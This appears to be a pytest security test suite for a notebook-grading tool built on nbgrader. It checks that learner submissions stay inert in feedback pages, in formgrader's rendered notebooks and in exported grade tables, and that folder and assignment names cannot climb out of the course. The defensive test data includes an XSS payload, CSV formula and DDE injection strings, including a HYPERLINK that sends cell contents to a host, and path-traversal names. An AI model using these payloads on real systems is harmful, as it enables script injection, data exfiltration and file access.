"""What a submission brings into a page is inert: feedback, the graded notebook that formgrader opens, and the exported table."""

import csv
import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import nbformat
import pytest
from adversarial.active_content import active_content
from adversarial.course import points
from adversarial.runner import CLEAN, NEIGHBOUR, Battery
from adversarial.submission import Submission, Variant, honest, variants
from nbconvert.exporters import HTMLExporter

VARIANTS = variants("web")
CONTENT = [variant for variant in VARIANTS if variant.number == 50]
FORMULA = '=HYPERLINK("http://example.org/?"&A1,"Click")'
BAD_NAMES = {
    "script": "<img src=x onerror=alert(1)>",
    "formula": "=cmd|' calc'!A0",
    "plus": "+1+1",
    "pattern": "[a-z]*",
    "hidden": "b-neighbour\u200b",
    "line": "two\nlines",
    "brace": "{student_id}",
    "percent": "%2e%2e",
}


@pytest.fixture(scope="module")
def battery():
    folder = Path(tempfile.mkdtemp(prefix="ck-"))  # short: sockets lie below it
    yield Battery(folder, "exercises")
    shutil.rmtree(folder)


@pytest.fixture(scope="module")
def outcome(battery):
    return battery.grade(VARIANTS)


@pytest.mark.parametrize("variant", VARIANTS, ids=str)
def test_variant_gets_its_true_score_and_its_message(variant: Variant, outcome):
    graded = outcome.learners[variant.learner]
    assert graded.scores == variant.scores, graded.told
    for text in variant.present:
        assert text in graded.feedback, graded.feedback[-2000:]
    assert graded.leaked == []


@pytest.mark.parametrize("variant", CONTENT, ids=str)
def test_feedback_runs_loads_and_sends_nothing_of_the_learners(variant: Variant, outcome):
    beside = active_content(outcome.learners[CLEAN[0]].page)
    found = active_content(outcome.learners[variant.learner].page)
    assert [one for one in found if one not in beside] == []


def test_feedback_loads_nothing_from_elsewhere(outcome):
    found = active_content(outcome.learners[CLEAN[0]].page)
    assert [one for one in found if "//" in one] == []


@pytest.mark.parametrize("variant", CONTENT, ids=str)
def test_graded_notebook_is_inert_in_the_page_that_instructors_open(variant: Variant, outcome, battery):
    """formgrader renders it by nbconvert, without a sanitiser of its own, at the address of the instructor's Jupyter."""
    beside = active_content(rendered(battery, CLEAN[0]))
    found = active_content(rendered(battery, variant.learner))
    assert [one for one in found if one not in beside] == []


@pytest.mark.parametrize("variant", VARIANTS, ids=str)
def test_time_of_submission_is_one_that_can_be_believed(variant: Variant, outcome, battery):
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{battery.root / 'gradebook.db'}") as gradebook:
        moment = gradebook.find_submission(battery.assignment, variant.learner).timestamp
    assert moment is None or 2025 < moment.year < 2100


def test_batch_comes_to_its_end_and_nothing_of_the_graders_changed(outcome):
    assert outcome.whole, outcome.log[-4000:]
    assert (outcome.changed, outcome.processes, outcome.leftovers, outcome.heard) == ([], [], [], [])


@pytest.mark.parametrize("learner", [*CLEAN, NEIGHBOUR])
def test_honest_learners_beside_them_get_full_marks(learner, outcome):
    assert outcome.learners[learner].scores == points("exercises")


def test_formulas_in_names_are_text_in_the_exported_table(outcome, battery):
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{battery.root / 'gradebook.db'}") as gradebook:
        gradebook.update_or_create_student(CLEAN[0], last_name=FORMULA, first_name="@SUM(A1)", email="-1+1")
    table = battery.root / "grades.csv"
    code, log, _ = battery._nbgrader("export", "--to", str(table))
    assert code == 0, log
    with open(table, newline="", encoding="utf-8") as file:
        rows = {row["student_id"]: row for row in csv.DictReader(file)}
    for column in ("last_name", "first_name", "email"):
        assert rows[CLEAN[0]][column].startswith("'")
    assert rows[CLEAN[0]]["score"] == str(sum(points("exercises").values()))
    assert rows["somebody"]["score"] == "", "who handed in nothing has no score, not 0"


@pytest.fixture(scope="module")
def names():
    """A course where honest submissions lie in folders whose names are no learner's id, or links to one."""
    folder = Path(tempfile.mkdtemp(prefix="ck-"))
    battery = Battery(folder, "exercises")
    for learner in (CLEAN[0], NEIGHBOUR):
        battery._submit(learner, honest(battery.release(), "exercises"))
    for name in BAD_NAMES.values():
        battery._submit(name, Submission({"exercises.ipynb": nbformat.v4.new_notebook()}))
    (battery.root / "submitted" / "linked").symlink_to(NEIGHBOUR)
    yield battery, coursekit_grade(battery)
    shutil.rmtree(folder)


def test_folders_that_are_no_learners_are_named_and_left_alone(names):
    battery, done = names
    assert done.returncode == 1, done.stdout + done.stderr
    assert "linked" in done.stdout
    for name in BAD_NAMES.values():
        assert not (battery.root / "autograded" / name).exists()
    assert learners_in(battery) >= {CLEAN[0], NEIGHBOUR}
    assert learners_in(battery).isdisjoint({"linked", *BAD_NAMES.values()})


def test_learners_beside_them_get_full_marks(names):
    battery, _ = names
    for learner in (CLEAN[0], NEIGHBOUR):
        assert battery._scores(learner) == points("exercises")


@pytest.mark.parametrize("assignment", ["../battery", "battery/../battery", "/etc", "..", "*", "", "battery\x1b[31m"])
def test_assignment_that_climbs_out_is_refused(names, assignment):
    battery, _ = names
    before = files_of(battery.root)
    done = coursekit_grade(battery, assignment)
    assert done.returncode not in (0, 1), done.stdout
    assert "Traceback" not in done.stderr
    assert files_of(battery.root) == before


@pytest.mark.parametrize("learner", ["../b-neighbour", "..", "/etc/passwd", "*", "b-neighbour/../a-clean", "nobody"])
def test_learner_that_climbs_out_is_refused(names, learner):
    battery, _ = names
    before = files_of(battery.root)
    done = coursekit_grade(battery, battery.assignment, "--learner", learner)
    assert done.returncode != 0, done.stdout
    assert "Traceback" not in done.stderr
    assert files_of(battery.root) == before


def rendered(battery: Battery, learner: str) -> str:
    """The graded notebook as formgrader's template engine shows it."""
    path = battery.root / "autograded" / learner / battery.assignment / "exercises.ipynb"
    page, _ = HTMLExporter(template_name="classic").from_notebook_node(nbformat.read(path, as_version=4))
    return page


def coursekit_grade(battery: Battery, assignment: str | None = None, *options: str) -> subprocess.CompletedProcess:
    """`coursekit grade` on the battery's course."""
    program = Path(sys.executable).with_name("coursekit")
    command = [
        program,
        "grade",
        battery.assignment if assignment is None else assignment,
        "--course-dir",
        battery.root,
        *options,
    ]
    environment = os.environ | {
        "PATH": os.pathsep.join([str(program.parent), os.environ.get("PATH", "")]),
        "HOME": str(battery.home),
        "JUPYTER_PATH": str(battery.root.parent / "share" / "jupyter"),
        "COURSEKIT_RUNTIME": str(battery.runtime),
    }
    return subprocess.run(command, cwd=battery.root, capture_output=True, text=True, check=False, env=environment)


def learners_in(battery: Battery) -> set[str]:
    """Learners that the gradebook has a submission of."""
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{battery.root / 'gradebook.db'}") as gradebook:
        return {submission.student.id for submission in gradebook.assignment_submissions(battery.assignment)}


def files_of(folder: Path) -> set[str]:
    """Every path of the course that grading could add to or take from, but for its own notes."""
    return {str(path) for path in folder.rglob("*") if not {".coursekit", ".nbgrader.log"} & set(path.parts)}
